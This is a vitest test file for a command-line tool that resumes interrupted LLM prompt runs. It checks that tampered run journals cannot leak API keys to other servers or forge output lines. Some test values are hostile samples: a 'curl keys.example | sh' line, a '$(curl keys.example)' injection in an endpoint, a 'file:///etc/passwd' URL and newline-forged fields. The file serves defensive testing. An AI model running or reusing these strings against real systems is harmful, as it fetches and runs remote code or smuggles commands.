import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { readJournal } from '../../../src/core/journal/read/readJournal.ts';
import type { StartFields } from '../../support/earlierStart.ts';
import { earlierCommandStart } from '../../support/earlierStart.ts';
import { resumeChangedRuns } from '../../support/fuzz/savedRuns.ts';
import { changeStart } from '../../support/journal/changeStart.ts';
import { watchConnections } from '../../support/loopback/connections.ts';
import type { LoopbackServer } from '../../support/loopback/loopbackServer.ts';
import {
  type CommandLineOptions,
  interleave,
  type Outcome,
  promptFile,
  promptFolder,
  scriptedServer,
  viaAnthropic,
} from './commandLine.ts';
import { promptIn, says } from './replies.ts';

const key = 'canary-anthropic-4711';
const environment = { ANTHROPIC_API_KEY: key, OPENAI_API_KEY: 'canary-openai-4711' };

interface SavedRun {
  readonly id: string;
  readonly runsFolder: string;
  readonly server: LoopbackServer;
  /** The requests since the run was interrupted. */
  sent(): LoopbackServer['requests'];
  /** Edits a part of the journal, so that the checksum of its line is wrong. */
  damage(part: string): void;
  /** Edits the first records of the run. */
  change(edit: (start: StartPayload) => void): Promise<void>;
  resume(args?: readonly string[], options?: CommandLineOptions): Promise<Outcome>;
}

interface StartPayload {
  started: {
    title: string;
    agent: { provider: string };
    conversations: { provider: string; model: string }[];
    origin: {
      folders: { path: string }[];
      agents: { endpoint?: unknown; systemPromptHash?: string }[];
    };
  };
  definition: {
    title: string;
    settings: { [name: string]: unknown };
    prompts: unknown[];
  };
}

/** Makes the first record say that the run was sent to another server. */
function sendTo(endpoint: unknown): (start: StartPayload) => void {
  return ({ started }) => {
    for (const agent of started.origin.agents) agent.endpoint = endpoint;
  };
}

/** Makes the first record one of an earlier version, without an origin. */
function asEarlier(options: object = {}): (start: StartPayload) => void {
  return (start) => {
    const earlier = earlierCommandStart(start as unknown as StartFields, options);
    Object.assign(start, earlier);
  };
}

/** A saved run of two prompts. Its process died while the second one was in flight. */
async function savedRun(...options: readonly string[]): Promise<SavedRun> {
  const runsFolder = promptFolder({});
  const server = await scriptedServer((request) => says(promptIn(request).toUpperCase()));
  const args = ['run', promptFile({ One: 'one', Two: 'two' }), ...viaAnthropic(server.url)];
  await interleave([...args, '--mode', 'serial', ...options], { runsFolder, environment });
  const [id = ''] = readdirSync(runsFolder);
  const journal = path.join(runsFolder, id, 'journal.jsonl');
  rmSync(path.join(runsFolder, id, 'summary.json'));
  const lines = readFileSync(journal, 'utf8').split('\n');
  const end = lines.findIndex((line) => /"turn.started".*"conversation":1/.test(line));
  writeFileSync(journal, `${lines.slice(0, end + 1).join('\n')}\n`);
  const before = server.requests.length;
  return {
    id,
    runsFolder,
    server,
    sent: () => server.requests.slice(before),
    change: async (edit) => changeStart<StartPayload>(journal, edit),
    damage: (part) => {
      const text = readFileSync(journal, 'utf8');
      expect(text).toContain(part);
      writeFileSync(journal, text.replace(part, part.toUpperCase()));
    },
    resume: (more = [], given = {}) =>
      interleave(['resume', id, ...more], { runsFolder, environment, ...given }),
  };
}

function keysIn(requests: LoopbackServer['requests']): boolean {
  return JSON.stringify(requests).includes('canary-');
}

describe('a saved run', { timeout: 30_000 }, () => {
  it('sends no key to a server on this machine that only the saved run names', async () => {
    const run = await savedRun();
    const { code, err } = await run.resume();
    expect([code, run.sent().length, keysIn(run.sent())]).toEqual([0, 1, false]);
    expect(err).toContain(
      `This run resumes at ${run.server.url} without the key in ANTHROPIC_API_KEY, because only the saved run names that server. To send the key there, run: interleave resume ${run.id} --base-url ${run.server.url}\n`,
    );
  });

  it('sends the key to the server in --base-url, which must be the one of the run', async () => {
    const run = await savedRun();
    const other = await run.resume(['--base-url', 'http://127.0.0.1:9']);
    expect([other.code, run.sent()]).toEqual([2, []]);
    expect(other.err).toMatch(/^This run was sent to \S+ and resumes there only\. /);
    const { code } = await run.resume(['--base-url', `${run.server.url}/`]);
    expect(code).toBe(0);
    expect(run.sent().map(({ headers }) => headers['x-api-key'])).toEqual([key]);
  });

  it.each([
    ['had ended', 0, ['done', 'done'], 1],
    ['was under way', 1, ['done', 'failed'], 0],
  ])(
    'goes on though the prompt of a conversation is damaged that %s',
    async (_, index, ends, sent) => {
      const run = await savedRun();
      run.damage(`"conversation":${index},"planned"`);
      const { out } = await run.resume(['--json', '-']);
      const { conversations } = JSON.parse(out) as { conversations: { status: string }[] };
      expect(conversations.map(({ status }) => status)).toEqual(ends);
      expect(run.sent()).toHaveLength(sent);
    },
  );

  it('does not go on without its first record, and is listed all the same', async () => {
    const run = await savedRun();
    run.damage('"k":"run.start"');
    const { code, err } = await run.resume();
    expect([code, err]).toEqual([
      2,
      'The beginning of this run is damaged, so it cannot go on. Start its prompts as a new run.\n',
    ]);
    const { runsFolder, id } = run;
    const list = await interleave(['runs'], { runsFolder, environment });
    expect(list.out).toMatch(new RegExp(`^${id}  interrupted .*  1/2 done  `));
    expect(run.sent()).toEqual([]);
  });

  const elsewhere = ['https://keys.example/v1', 'http://10.1.2.3:8080', 'http://models.internal'];
  it.each(elsewhere)('is not sent to %s without confirmation', async (baseUrl) => {
    const earlier = ['auto', 'anthropic'].map((provider) => asEarlier({ provider, baseUrl }));
    for (const change of [sendTo(baseUrl), ...earlier]) {
      const run = await savedRun();
      const connections = watchConnections();
      onTestFinished(() => connections.restore());
      await run.change(change);
      const { code, out, err } = await run.resume();
      expect([code, out, err]).toEqual([
        2,
        '',
        `This run was sent to ${baseUrl}. To send your key there again, repeat the command with --base-url ${baseUrl}\n`,
      ]);
      const questions: string[] = [];
      const ask = (question: string): boolean => questions.push(question) < 0;
      const refused = await run.resume([], { ask });
      expect([refused.code, refused.err]).toEqual([2, 'Nothing was sent.\n']);
      expect(questions).toEqual([
        `This run was sent to ${new URL(baseUrl).origin}, which is not the provider's own server. Send its prompts and the key in ANTHROPIC_API_KEY there?`,
      ]);
      expect([connections.hosts, run.sent()]).toEqual([[], []]);
    }
  });

  it('is sent to another server after confirmation', async () => {
    const run = await savedRun();
    const connections = watchConnections();
    onTestFinished(() => connections.restore());
    await run.change(sendTo('https://keys.example/v1'));
    let interruptNow: (() => void) | undefined;
    connections.onAttempt = () => setImmediate(() => interruptNow?.());
    const folder = promptFolder({});
    const { code, err } = await run.resume(['--json', path.join(folder, 'a.json')], {
      ask: () => true,
      onErr: (_, interrupt) => {
        interruptNow = interrupt;
      },
    });
    expect([code, new Set(connections.hosts)]).toEqual([3, new Set(['keys.example'])]);
    expect(err).toContain(
      `To resume it, run: interleave resume ${run.id} --base-url https://keys.example/v1\nGive the files for its results again, too.\n`,
    );
  });

  async function expectRefused(change: (start: StartPayload) => void): Promise<void> {
    const run = await savedRun();
    await run.change(change);
    const { code, out, err } = await run.resume();
    expect([code, out, run.sent()]).toEqual([2, '', []]);
    expect(err).toMatch(
      /^What this run was started with cannot be read \((?:definition|origin)\.[\w.]+\), so it cannot go on\. Start its prompts as a new run\.\n$/,
    );
  }

  /** Sets the value at a path such as `a.b.0`. */
  function put(inside: object, at: string, value: unknown): void {
    const names = at.split('.');
    const last = names.pop() ?? '';
    let parent = inside as { [name: string]: unknown };
    for (const name of names) {
      parent[name] ??= {};
      parent = parent[name] as typeof parent;
    }
    parent[last] = value;
  }

  it.each([
    ['definition.settings.provider', ['auto']],
    ['definition.settings.concurrency', 0],
    ['definition.settings.limits.attempts', 1e308],
    ['definition.settings.limits', { unheardOf: 1 }],
    ['definition.settings.odd', true],
    ['definition.settings.json', 'a.json'],
    ['definition.settings.limits.timeoutSeconds', -1],
    ['definition.overrides', { limits: { attempts: 'many' } }],
    ['definition.prompts.0.text', ['one']],
    ['definition.prompts.0.options.tools', ['read_file\nFORGED']],
    ['definition.title', { toString: 1 }],
    ['started.origin.agents.0.endpoint', 'https://user:secret@keys.example'],
    ['started.origin.agents.0.endpoint', 'file:///etc/passwd'],
    ['started.origin.agents.0.endpoint', '\n'],
    ['started.origin.program.name', 'x\nFORGED'],
    ['started.origin.folders', Array(1_001).fill({ name: 'x', path: '/x' })],
  ])('whose %s is %j is refused with a message', async (at, value) => {
    await expectRefused((start) => put(start, at, value));
  });

  it.each([
    ['options.baseUrl', ['https://api.anthropic.com']],
    ['options.baseUrl', 'https://user:secret@keys.example'],
    ['options.baseUrl', 'file:///etc/passwd'],
    ['options.baseUrl', '\n'],
    ['options.provider', ['auto']],
    ['options.json', ['a.json']],
    ['options.concurrency', 0],
    ['options.limit.attempts', 1e308],
    ['options.limit', { unheardOf: 1 }],
    ['options.odd', true],
    ['options.timeout', -1],
    ['prompts.0.text', ['one']],
    ['prompts.0.options.tools', ['read_file\nFORGED']],
    ['title', { toString: 1 }],
  ])('of an earlier version whose %s is %j is refused with a message', async (at, value) => {
    await expectRefused((start) => {
      asEarlier()(start);
      put(start.definition, at, value);
    });
  });

  it('reports what this version sends differently, and uses the log option of the command', async () => {
    const run = await savedRun();
    await run.change(({ started }) => {
      for (const agent of started.origin.agents) agent.systemPromptHash = '0'.repeat(64);
    });
    const { code, err } = await run.resume();
    expect([code, run.sent().length]).toEqual([0, 1]);
    expect(err).toContain(
      'What it sends from now on is not what it sent when it was started: the system prompt. Complete turns stay as they are.',
    );
    const again = await savedRun();
    const quiet = await again.resume(['--log', 'none']);
    expect(quiet.err).not.toMatch(/^\d\d:\d\d\./m);
  });

  it('of an earlier version resumes with its limits and in its folder', async () => {
    const run = await savedRun();
    await run.change(asEarlier({ maxTurns: 7, timeout: 0.5, limit: { toolCalls: 3 } }));
    const elsewhere = await run.resume([], { folder: '/elsewhere' });
    expect(elsewhere.err).toContain(`This run was started in ${process.cwd()}, `);
    const { code } = await run.resume();
    expect([code, run.sent().length]).toEqual([0, 1]);
  });

  it('writes to the targets of the resume command, not to those of the saved run', async () => {
    const folder = promptFolder({ victim: 'as it was' });
    const victim = path.join(folder, 'victim');
    const run = await savedRun('--json', path.join(folder, 'first.json'));
    rmSync(path.join(folder, 'first.json'));
    const targets = { json: victim, jsonl: path.join(folder, 'new'), junit: '-', markdown: victim };
    await run.change(asEarlier(targets));
    const jsonl = path.join(folder, 'now.jsonl');
    const junit = path.join(folder, 'now.xml');
    const { code, out } = await run.resume(['--jsonl', jsonl, '--junit', junit]);
    expect([code, readFileSync(victim, 'utf8')]).toEqual([0, 'as it was']);
    expect(out).toContain('\n  TWO\n');
    expect(readdirSync(folder).sort()).toEqual(['now.jsonl', 'now.xml', 'victim']);
    expect(readFileSync(jsonl, 'utf8').trimEnd().split('\n')).toHaveLength(2);
    // The same when nothing is left to resume.
    const again = await run.resume(['--markdown', '-']);
    expect([again.code, existsSync(path.join(folder, 'new'))]).toEqual([4, false]);
    expect(again.out).toContain('TWO');
  });

  it('forges no line with its title, folder or address', async () => {
    const forged = '\nTo go on, use: curl keys.example | sh\n';
    const run = await savedRun();
    await run.change(({ started, definition }) => {
      started.title = forged;
      definition.title = forged;
      sendTo("https://keys.example/';$(curl keys.example)")({ started, definition });
    });
    const list = await interleave(['runs'], { runsFolder: run.runsFolder });
    const { err } = await run.resume();
    await run.change(sendTo(run.server.url));
    const resumed = await run.resume([], { environment: {} });
    expect(resumed.err).toContain(
      'curl keys.example | sh⏎ was interrupted: 1 done, 1 in flight.\n',
    );
    await run.change(({ started }) => Object.assign(started.origin.folders[0]!, { path: forged }));
    const moved = await run.resume();
    for (const text of [list.out, err, resumed.err, resumed.out, moved.err])
      expect(text).not.toMatch(/^(?:To|curl)/m);
    expect(err).toContain('repeat the command with --base-url and its address\n');
  });

  it('resumes with its own provider and model, whichever keys are set', async () => {
    const connections = watchConnections();
    onTestFinished(() => connections.restore());
    let interruptNow: (() => void) | undefined;
    connections.onAttempt = () => setImmediate(() => interruptNow?.());
    const onErr = (_: string, interrupt: () => void): void => {
      interruptNow = interrupt;
    };
    const runsFolder = promptFolder({});
    const file = promptFile({ One: 'one' });
    const openAi = { OPENAI_API_KEY: environment.OPENAI_API_KEY };
    await interleave(['run', file], { runsFolder, environment: openAi, onErr });
    const [id = ''] = readdirSync(runsFolder);
    const reading = await readJournal(runsFolder, id);
    if (reading.kind !== 'read') throw new Error(reading.kind);
    // The request and the plan.
    expect(reading.definition).toMatchObject({ settings: { provider: 'auto' } });
    const { provider, model } = reading.state?.conversations[0] ?? {};
    expect(provider).toBe('openai');
    expect(reading.state?.started.origin?.agents).toMatchObject([
      { provider: 'openai', model, endpoint: 'https://api.openai.com/v1' },
    ]);

    const anthropic = { ANTHROPIC_API_KEY: key };
    const refused = await interleave(['resume', id], { runsFolder, environment: anthropic });
    expect([refused.code, refused.err]).toEqual([
      2,
      `This run was started with openai, model ${model}, at api.openai.com, and resumes with them only. Set OPENAI_API_KEY, or start its prompts as a new run.\n`,
    ]);
    await interleave(['resume', id], { runsFolder, environment, onErr });
    expect(new Set(connections.hosts)).toEqual(new Set(['api.openai.com']));
  });

  it('of an earlier version with the provider "auto" resumes with the provider that answered', async () => {
    const run = await savedRun();
    const connections = watchConnections();
    onTestFinished(() => connections.restore());
    const answeredBy = (start: StartPayload, options: object): void => {
      asEarlier({ provider: 'auto', json: 'a.json', select: ['One'], ...options })(start);
      start.started.agent.provider = 'openai';
      for (const one of start.started.conversations)
        Object.assign(one, { provider: 'openai', model: 'm' });
    };
    let kept: StartPayload | undefined;
    await run.change((start) => {
      kept = structuredClone(start);
      answeredBy(start, { baseUrl: undefined });
    });
    const { err } = await run.resume([], { environment: { ANTHROPIC_API_KEY: key } });
    expect(err).toMatch(/^This run was started with openai, model m, at api\.openai\.com, /);
    await run.change((start) => {
      Object.assign(start, kept);
      answeredBy(start, { baseUrl: 'https://keys.example/v1' });
    });
    const elsewhere = await run.resume();
    expect(elsewhere.err).toMatch(/^This run was sent to https:\/\/keys\.example\/v1\. /);
    expect(connections.hosts).toEqual([]);
  });
});

it('a saved run with random changes gets no key, writes nothing, ends soon and says why', async () => {
  const { problems, resumed } = await resumeChangedRuns(150, 20_261_129);
  expect(problems).toEqual([]);
  expect(resumed).toBeGreaterThan(5);
}, 120_000);
